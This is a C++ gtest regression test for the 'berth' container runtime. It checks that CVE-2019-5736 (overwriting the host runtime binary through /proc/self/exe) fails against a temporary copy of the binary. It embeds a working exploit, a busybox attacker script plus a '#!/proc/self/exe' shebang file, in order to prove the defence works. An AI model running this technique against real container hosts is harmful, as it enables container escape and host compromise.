// CVE-2019-5736 as an attacker would run it, with busybox only, against a
// COPY of the berth binary in a temp dir (never the real one):
//   - the image holds /bin/evil = "#!/proc/self/exe --log=/shared/fifo": run
//     by `berth exec` (or as process.args of create/run), the kernel starts
//     the berth binary inside the container, as container root, and it
//     blocks opening its log, a FIFO, which keeps it alive for the attacker;
//   - an attacker loop in a running container (its init) finds that process,
//     opens /proc/PID/exe, lets it go (reads the FIFO), and once it is gone
//     (no more ETXTBSY) writes through /proc/self/fd/3.
// The binary must be unchanged, with a 0755 binary and with a 0555 one and
// CAP_DAC_OVERRIDE in the container. The attacker's log proves each attempt
// got as far as holding the exe and trying to write (the test cannot pass by
// the attack not happening).
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>

#include <iostream>
#include <sstream>
#include <string>
#include <vector>

#include "gtest/gtest.h"
#include "runtime/tests/harness.h"
#include "spec/state.h"

namespace berth::testing {
namespace {

constexpr const char* kMarker = "CVE-2019-5736-REPRO";

// Runs as the attacker container's init. Every process that is not busybox
// (only berth can be one) is attacked once; each attempt leaves one verdict
// line in /shared/log: "wrote", "refused <error>" or "busy" (gave up).
constexpr const char* kAttackScript = R"(#!/bin/sh
seen=" $$ "
while :; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    case "$seen" in *" $p "*) continue ;; esac
    t=$(readlink "$d/exe" 2>/dev/null) || continue
    case "$t" in ""|/bin/busybox) continue ;; esac
    seen="$seen$p "
    (
      exec 3<"$d/exe"
      echo "opened $p $t" >>/shared/log
      cat /shared/fifo >/dev/null
      i=0
      while [ $i -lt 500 ]; do
        if msg=$( { echo CVE-2019-5736-REPRO >>/proc/self/fd/3; } 2>&1 ); then
          echo "wrote $p" >>/shared/log
          exit 0
        fi
        case "$msg" in
          *busy*) usleep 10000; i=$((i + 1)) ;;
          *) echo "refused $p $msg" >>/shared/log; exit 0 ;;
        esac
      done
      echo "busy $p" >>/shared/log
    )
  done
  usleep 5000
done
)";

constexpr const char* kEvil = "#!/proc/self/exe --log=/shared/fifo\n";

std::vector<std::string> Lines(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);)
    if (!line.empty()) lines.push_back(line);
  return lines;
}

int CountPrefix(const std::vector<std::string>& lines, const std::string& prefix) {
  int n = 0;
  for (const auto& l : lines) n += l.rfind(prefix, 0) == 0;
  return n;
}

struct Variant {
  mode_t binary_mode;
  bool dac_override;
};

void PrintTo(const Variant& v, std::ostream* os) {
  *os << "mode 0" << std::oct << v.binary_mode << std::dec
      << (v.dac_override ? " with CAP_DAC_OVERRIDE" : "");
}

class Cve20195736Test : public ContainerTest, public ::testing::WithParamInterface<Variant> {
 protected:
  void SetUp() override {
    ContainerTest::SetUp();
    if (IsSkipped()) return;
    char tmpl[] = "/tmp/berth-5736-XXXXXX";
    ASSERT_NE(mkdtemp(tmpl), nullptr);
    dir_ = tmpl;
    berth_ = dir_ + "/berth";
    shared_ = dir_ + "/shared";
    // CVE_5736_RUNTIME=/usr/sbin/runc runs the same attack on a peer (runc's
    // command line is berth's), for docs/security.md.
    const char* runtime = std::getenv("CVE_5736_RUNTIME");
    std::string source = runtime && *runtime ? runtime : BerthPath();
    ASSERT_EQ(RunProgram({"/bin/cp", source, berth_}).exit_code, 0);
    ASSERT_EQ(chmod(berth_.c_str(), GetParam().binary_mode), 0);
    original_ = ReadFileOrEmpty(berth_);
    ASSERT_GT(original_.size(), 0u);
    berth_command_ = {berth_};  // B and the teardown run the copy
    ASSERT_EQ(mkdir(shared_.c_str(), 0777), 0);
    ASSERT_EQ(mkfifo((shared_ + "/fifo").c_str(), 0666), 0);
  }
  void TearDown() override {
    ContainerTest::TearDown();
    for (const auto& id : ids_) EXPECT_FALSE(CgroupDirExists(id)) << "cgroup of " << id << " left behind";
    if (!dir_.empty()) RunProgram({"/bin/rm", "-rf", dir_});
  }

  // The bundle's config: /shared bound from the host, CAP_DAC_OVERRIDE added
  // in the 0555 variant, /bin/evil in its rootfs.
  void Prepare(Bundle& bundle, std::vector<std::string> args) {
    spec::Config& c = bundle.config();
    c.mounts.push_back({"/shared", "bind", shared_, {"rbind", "rw"}, {}, {}});
    if (GetParam().dac_override) {
      auto& caps = *c.process->capabilities;
      for (auto* set : {&caps.bounding, &caps.effective, &caps.permitted}) set->push_back("CAP_DAC_OVERRIDE");
    }
    WriteFile(bundle.rootfs() + "/bin/evil", kEvil);
    chmod((bundle.rootfs() + "/bin/evil").c_str(), 0755);
    bundle.SetArgs(std::move(args));
  }

  static void JoinPidNamespace(Bundle& bundle, const std::string& pid) {
    for (auto& ns : bundle.config().linux_->namespaces)
      if (ns.type == spec::NamespaceType::pid) ns.path = "/proc/" + pid + "/ns/pid";
  }

  // Starts the attacker container and returns its init pid (host view).
  std::string StartAttacker(Bundle& attacker) {
    WriteFile(attacker.rootfs() + "/attack.sh", kAttackScript);
    Prepare(attacker, {"/bin/sh", "/attack.sh"});
    Use(attacker_id_);
    CommandResult run = B({"run", "-d", "-b", attacker.dir(), attacker_id_});
    EXPECT_EQ(run.exit_code, 0) << run.err;
    auto state = spec::ParseState(B({"state", attacker_id_}).out);
    EXPECT_TRUE(state.ok());
    return state.ok() && state->pid > 0 ? std::to_string(state->pid) : "";
  }

  std::vector<std::string> Log() { return Lines(ReadFileOrEmpty(shared_ + "/log")); }
  int Verdicts() {
    auto log = Log();
    return CountPrefix(log, "wrote") + CountPrefix(log, "refused") + CountPrefix(log, "busy");
  }
  // The attacker works at its own pace: wait (bounded) for its verdicts.
  void WaitForVerdicts(int n) {
    for (int i = 0; i < 1000 && Verdicts() < n; ++i) usleep(10000);
  }

  // Every attempt held the binary open and was refused writing; the copy is
  // byte for byte the original.
  void ExpectBinaryIntact(int attempts) {
    auto log = Log();
    std::string text;
    for (const auto& l : log) text += l + "\n";
    std::cout << "attacker's log:\n" << text;
    EXPECT_EQ(CountPrefix(log, "opened"), attempts) << text;
    EXPECT_EQ(CountPrefix(log, "wrote"), 0) << "the host binary was overwritten:\n" << text;
    EXPECT_EQ(CountPrefix(log, "refused"), attempts) << text;
    for (const auto& l : log) {
      if (l.rfind("refused", 0) != 0) continue;
      EXPECT_TRUE(l.find("Read-only file system") != std::string::npos ||
                  l.find("Operation not permitted") != std::string::npos)
          << l;
    }
    std::string now = ReadFileOrEmpty(berth_);
    EXPECT_EQ(now.find(kMarker), std::string::npos) << "marker appended to the binary";
    EXPECT_TRUE(now == original_) << "the binary copy changed (" << original_.size() << " -> " << now.size()
                                  << " bytes)";
  }

  // Unique ids: the cgroup path (/berth/ID) is shared by every state root.
  std::string attacker_id_ = "cve5736-attacker-" + std::to_string(getpid());
  std::string victim_id_ = "cve5736-victim-" + std::to_string(getpid());
  std::string dir_, berth_, shared_, original_;
};

TEST_P(Cve20195736Test, ExecOfAProgramRunningProcSelfExeCannotOverwriteTheBinary) {
  Bundle attacker;
  StartAttacker(attacker);
  constexpr int kAttempts = 3;
  for (int i = 1; i <= kAttempts; ++i) {
    CommandResult exec = B({"exec", attacker_id_, "/bin/evil"});
    // The berth run inside the container rejects "/bin/evil" as a command.
    EXPECT_NE(exec.exit_code, 0) << exec.err;
    WaitForVerdicts(i);
  }
  ExpectBinaryIntact(kAttempts);
}

// process.args = /bin/evil: the init itself becomes berth. It joins the
// attacker's pid namespace (as a pod's containers do), so the attacker sees
// it and outlives it.
TEST_P(Cve20195736Test, CreateStartOfAProgramRunningProcSelfExeCannotOverwriteTheBinary) {
  Bundle attacker, victim;
  std::string attacker_pid = StartAttacker(attacker);
  ASSERT_FALSE(attacker_pid.empty());
  JoinPidNamespace(victim, attacker_pid);
  Prepare(victim, {"/bin/evil"});
  Use(victim_id_);
  CommandResult create = B({"create", "-b", victim.dir(), victim_id_});
  ASSERT_EQ(create.exit_code, 0) << create.err;
  ASSERT_EQ(B({"start", victim_id_}).exit_code, 0);
  WaitForVerdicts(1);
  ExpectBinaryIntact(1);
}

TEST_P(Cve20195736Test, RunOfAProgramRunningProcSelfExeCannotOverwriteTheBinary) {
  Bundle attacker, victim;
  std::string attacker_pid = StartAttacker(attacker);
  ASSERT_FALSE(attacker_pid.empty());
  JoinPidNamespace(victim, attacker_pid);
  Prepare(victim, {"/bin/evil"});
  Use(victim_id_);
  // Foreground: returns once the berth inside the container has exited.
  CommandResult run = B({"run", "-b", victim.dir(), victim_id_});
  EXPECT_NE(run.exit_code, 0) << run.err;
  WaitForVerdicts(1);
  ExpectBinaryIntact(1);
}

INSTANTIATE_TEST_SUITE_P(BinaryModes, Cve20195736Test,
                         ::testing::Values(Variant{0755, false}, Variant{0555, true}),
                         [](const ::testing::TestParamInfo<Variant>& info) {
                           return info.param.dac_override ? std::string("Mode0555WithDacOverride")
                                                          : std::string("Mode0755");
                         });

}  // namespace
}  // namespace berth::testing
